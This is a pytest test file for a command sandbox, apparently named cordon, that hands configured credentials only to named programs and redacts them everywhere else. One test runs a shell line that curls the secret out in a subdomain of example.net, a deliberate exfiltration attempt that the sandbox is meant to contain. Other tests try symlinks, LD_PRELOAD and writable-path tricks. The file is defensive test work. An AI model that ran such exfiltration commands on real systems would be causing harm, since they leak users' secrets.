"""Credentials of the configuration: named programs get them in a variable, nothing else does, and no value is kept
anywhere."""
import json
import os
import pathlib
import shutil

import pytest

from lab import result, rows, rows_of

VALUE = "Zq7-correct+horse"


@pytest.fixture
def keys(tmp_path):
    """A directory of the caller's own, for what the configuration names."""
    path = tmp_path / "keys"
    path.mkdir()
    return path


@pytest.fixture
def key_file(keys):
    path = keys / "key"
    path.write_text(VALUE + "\n")
    path.chmod(0o600)
    return path


@pytest.fixture
def configure(cordon, tmp_path):
    """Writes the configuration; returns the options that name it."""
    def configure(text):
        path = tmp_path / "config.toml"
        path.write_text(text)
        return ["--config", path]
    return configure


def credential(source, variable="MY_KEY", programs=("/usr/bin/env",)):
    return f"[credentials.mine]\n{source}\nvariable = \"{variable}\"\nprograms = {json.dumps(list(programs))}\n"


def everything(data):
    return b"".join(path.read_bytes() for path in pathlib.Path(data).rglob("*") if path.is_file()
                    and os.access(path, os.R_OK))


def printed(told):
    return dict(line.split("=", 1) for line in told["stdout"].splitlines() if "=" in line)


@pytest.fixture(params=["file", "env", "command"])
def source(request, cordon, key_file):
    if request.param == "env":
        cordon.env["SOURCE_OF_IT"] = VALUE
        return 'env = "SOURCE_OF_IT"'
    return f'file = "{key_file}"' if request.param == "file" else f'command = ["/bin/cat", "{key_file}"]'


def test_the_named_program_gets_it_and_no_other(cordon, source, configure):
    config = configure(credential(source))
    told = result(cordon, *config, "env")
    assert printed(told)["MY_KEY"] == VALUE and "secrets" not in told and "SOURCE_OF_IT" not in printed(told)
    intent, = [row for row in rows_of(cordon, told["audit_id"]) if row["row"] == "intent"]
    assert intent["credentials"] == ["mine"]
    # By whatever name the program is called; not one that is only mentioned, and not what another program starts.
    assert printed(result(cordon, *config, "/bin/env"))["MY_KEY"] == VALUE
    for command in (["sh", "-c", "env"], ["printenv"], ["-c", "/usr/bin/env"]):
        told = result(cordon, *config, *command)
        assert "MY_KEY" not in told["stdout"] and VALUE not in json.dumps(told)
        assert "credentials" not in [row for row in rows_of(cordon, told["audit_id"]) if row["row"] == "intent"][0]
    assert VALUE.encode() not in everything(cordon.data)


def test_a_session_and_plain_run_deliver_it_likewise(cordon, key_file, configure):
    config = configure(credential(f'file = "{key_file}"'))
    for words in (["--session", "s"], []):
        assert f"MY_KEY={VALUE}\n" in cordon("run", *config, *words, "env").stdout
    # Each start reads it anew.
    key_file.write_text("another-7-Value")
    assert "MY_KEY=another-7-Value\n" in cordon("run", *config, "--session", "s", "env").stdout
    assert VALUE.encode() not in everything(cordon.data)


def test_profile_names_the_variable_without_a_value(cordon, key_file, configure):
    config = configure(credential(f'file = "{key_file}"'))
    done = cordon("profile", *config, "--", "env")
    assert "MY_KEY=(hidden)" in done.stdout and VALUE not in done.stdout
    done = cordon("config", "show", *config)
    assert "[credentials.mine]" in done.stdout and str(key_file) in done.stdout and VALUE not in done.stdout


def test_what_a_program_does_not_get_is_redacted(cordon, key_file, configure, workspace):
    config = configure(credential(f'file = "{key_file}"'))
    (workspace / "leaked").write_text(f"a {VALUE} b\n")
    told = result(cordon, *config, "cat", "leaked")
    assert told["stdout"] == "a [REDACTED:mine] b\n" and told["secrets"][0]["kind"] == "own"
    error = json.loads(cordon("run", "--json", *config, "echo", VALUE).stdout)["error"]
    assert error["class"] == "leak_blocked" and VALUE not in json.dumps(error)
    done = cordon("file", "read", "leaked", "--workspace", workspace, *config)
    assert done.stdout == "a [REDACTED:mine] b\n"


def test_what_it_got_is_in_no_row_and_no_error(cordon, key_file, configure):
    config = configure(credential(f'file = "{key_file}"',
                                  programs=["/bin/sh", "/usr/bin/sh", "/bin/dash", "/bin/bash"]))
    told = result(cordon, *config, "--net", "example.com:443", "-c",
                  'echo "$MY_KEY"; cd "/$MY_KEY" 2>&1; command -v curl > /dev/null && '
                  'curl -s -m 5 "http://x$(printf %s "$MY_KEY" | tr -d +).example.net/"; exit 0')
    assert told["stdout"].startswith(VALUE)
    assert VALUE.encode() not in everything(cordon.data) and VALUE not in json.dumps(told["denials"])


@pytest.mark.parametrize("change, reason", [
    (lambda path: path.chmod(0o640), "others may read or change this file"),
    (lambda path: path.chmod(0o602), "others may read or change this file"),
    (lambda path: path.unlink(), "this file cannot be read"),
    (lambda path: (path.rename(path.with_name("real")), path.symlink_to("real")), "there is a link on the way"),
    (lambda path: (path.parent.rename(path.parent.with_name("moved")), path.parent.symlink_to("moved")),
     "there is a link on the way"),
    (lambda path: (path.unlink(), os.mkfifo(path, 0o600)), "no regular file"),
    (lambda path: (path.unlink(), path.mkdir(0o700)), "no regular file"),
    (lambda path: path.write_bytes(b"x" * 20000), "larger than 16 KiB"),
    (lambda path: path.write_bytes(b"secret\0more"), "NUL"),
    (lambda path: path.write_text(" \n"), "it is empty"),
])
def test_a_file_that_is_not_as_it_must_be_refuses(cordon, key_file, configure, change, reason):
    config = configure(credential(f'file = "{key_file}"'))
    change(key_file)
    done = cordon("run", "--json", *config, "env")
    error = json.loads(done.stdout)["error"]
    assert done.returncode == 125 and error["class"] == "config_invalid" and reason in error["reason"], error
    assert "credentials.mine" in error["reason"] and VALUE not in done.stdout + done.stderr
    assert [row for row in rows(cordon) if row["row"] == "denial"][-1]["error"]["class"] == "config_invalid"
    # What does not get it runs.
    assert cordon("run", *config, "true").returncode == 0
    if reason not in ("NUL", "it is empty"):
        done = cordon("config", "check", *config)
        assert done.returncode and "credentials.mine" in done.stderr, done


@pytest.mark.parametrize("command, reason", [
    (["/nonexistent/x"], "this program cannot be executed"),
    (["/bin/sh", "-c", "echo secret; exit 3"], "exit status 3"),
    (["/bin/sh", "-c", "kill -9 $$"], "signal 9"),
    (["/bin/sh", "-c", "yes"], "more than 16 KiB"),
    (["/bin/sh", "-c", "printf 'a\\0b'"], "NUL"),
    (["/bin/sh", "-c", "exec 1>&-; sleep 1000"], "longer than 500 ms"),
    (["/bin/sh", "-c", "sleep 1000 & sleep 1000"], "longer than 500 ms"),
    (["/bin/true"], "it is empty"),
])
def test_a_command_that_fails_refuses(cordon, configure, command, reason):
    config = configure(credential(f"command = {json.dumps(command)}\ntimeout = \"500ms\""))
    error = json.loads(cordon("run", "--json", *config, "env").stdout)["error"]
    assert error["class"] == "config_invalid" and reason in error["reason"], error
    assert cordon("run", *config, "true").returncode == 0


def test_a_command_of_the_callers_has_no_input_and_no_descriptor(cordon, configure):
    config = configure(credential('command = ["/bin/sh", "-c", "cat; echo noise >&2; ls /proc/self/fd | tr \'\\\\n\' , ; echo in $PWD"]'))
    done = cordon("run", *config, "env", input="not for it")
    assert "MY_KEY=0,1,2,3,in /\n" in done.stdout and "noise" not in done.stderr, done


def test_an_unset_variable_refuses(cordon, configure):
    cordon.env.pop("SOURCE_OF_IT", None)
    config = configure(credential('env = "SOURCE_OF_IT"'))
    error = json.loads(cordon("run", "--json", *config, "env").stdout)["error"]
    assert error["class"] == "config_invalid" and error["subject"] == "SOURCE_OF_IT"


def test_nothing_is_taken_from_where_commands_write(cordon, workspace, configure):
    """A command could put a link to another file of the caller's there, or a program for the next start."""
    (workspace / "key").write_text(VALUE)
    (workspace / "key").chmod(0o600)
    shutil.copy("/bin/echo", workspace / "tell")
    for source in (f'file = "{workspace}/key"', f'command = ["{workspace}/tell", "x"]'):
        error = json.loads(cordon("run", "--json", *configure(credential(source)), "env").stdout)["error"]
        assert error["class"] == "config_invalid" and "where the command may write" in error["reason"], error


def test_a_program_that_commands_can_write_gets_nothing(cordon, workspace, key_file, configure):
    shutil.copy("/usr/bin/env", workspace / "env")
    told = result(cordon, *configure(credential(f'file = "{key_file}"', programs=[str(workspace / "env")])), "./env")
    assert "MY_KEY" not in told["stdout"] and VALUE not in told["stdout"]
    assert any(denial["what"] == "credentials.mine" for denial in told["denials"])


def test_the_file_is_hidden_from_commands_and_file_tools(cordon, key_file, configure):
    config = configure(credential(f'file = "{key_file}"'))
    told = result(cordon, *config, "--read", key_file.parent, "-c", f"cat {key_file}; ls {key_file.parent}")
    assert VALUE not in told["stdout"] and "REDACTED" not in told["stdout"]
    done = cordon("file", "read", key_file, "--read", key_file.parent, "--workspace", cordon.workspace, *config)
    assert done.returncode and VALUE not in done.stdout + done.stderr


@pytest.mark.parametrize("text, reason", [
    ("[credentials.a]\nvariable = \"X\"\nprograms = [\"/bin/a\"]", "no source"),
    ("[credentials.a]\nfile = \"/k\"\nenv = \"K\"", "more than one source"),
    ("[credentials.a]\nfile = \"/k\"\nvariable = \"X\"", "no programs"),
    ("[credentials.a]\nfile = \"/k\"\nprograms = [\"/bin/a\"]", "no variable"),
    ("[credentials.a]\nfile = \"k\"", "absolute"),
    ("[credentials.a]\nfile = \"/k\"\nvariable = \"LD_PRELOAD\"\nprograms = [\"/bin/a\"]", "LD_PRELOAD"),
    ("[credentials.a]\nfil = \"/k\"", "file"),
    ("[credentials.a]\ncommand = []", "words"),
    ("[credentials.a]\ncommand = [\"pass\"]", "absolute"),
    ("credentials.a = \"secret\"", "must be a table"),
    ("[credentials.\"a b\"]\nfile = \"/k\"", "name of a credential"),
])
def test_a_bad_table_is_refused_at_its_place(cordon, configure, text, reason):
    done = cordon("config", "check", *configure(text + "\n"))
    assert done.returncode and reason in done.stderr and "config.toml:" in done.stderr, done.stderr


def test_a_project_cannot_set_one(cordon, workspace, key_file):
    (workspace / ".cordon.toml").write_text(credential(f'file = "{key_file}"'))
    error = json.loads(cordon("run", "--json", "env").stdout)["error"]
    assert error["class"] == "config_invalid" and "cannot be set by a project" in error["reason"]
